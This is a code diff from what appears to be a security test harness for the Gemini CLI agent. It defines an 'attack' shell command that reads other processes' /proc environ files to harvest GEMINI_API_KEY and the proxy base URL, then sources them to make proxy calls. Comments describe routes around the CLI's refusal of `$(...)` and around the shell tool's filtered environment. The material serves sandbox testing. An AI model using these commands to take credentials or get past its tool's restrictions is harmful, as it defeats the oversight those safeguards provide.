@@ -26,9 +26,9 @@ const CALLS = [
 
 /** The attack as one plain shell command (the CLI refuses `$(...)`, so the environment is sourced from a file). */
 const attack = [
-  // gemini's own environment: the first process of ours that has the proxy's address in it
-  `for f in /proc/[0-9]*/environ; do if tr '\\0' '\\n' < "$f" 2>/dev/null | grep -q '^GOOGLE_GEMINI_BASE_URL=http'; then tr '\\0' '\\n' < "$f" | grep -E '^(GOOGLE_GEMINI_BASE_URL|GEMINI_API_KEY)=' > "$TMPDIR/gemini.env"; break; fi; done;`,
-  '. "$TMPDIR/gemini.env";',
+  // gemini's own environment: a process of ours that holds the placeholder (the shell tool's has it filtered out)
+  `for f in /proc/[0-9]*/environ; do if tr '\\0' '\\n' 2>/dev/null < "$f" | grep -q '^GEMINI_API_KEY=gemini-run-'; then tr '\\0' '\\n' < "$f" | grep -E '^(GOOGLE_GEMINI_BASE_URL|GEMINI_API_KEY)=' > proxy.env; break; fi; done;`,
+  '. ./proxy.env; rm -f proxy.env;',
   'test -n "$GEMINI_API_KEY" && echo HAVE_PLACEHOLDER > PROXY_CALLS.txt;',
   `for call in ${CALLS.map((c) => `'${c}'`).join(' ')}; do set -- $call;`,
   `printf '%s %s ' "$1" "$2" >> PROXY_CALLS.txt;`,
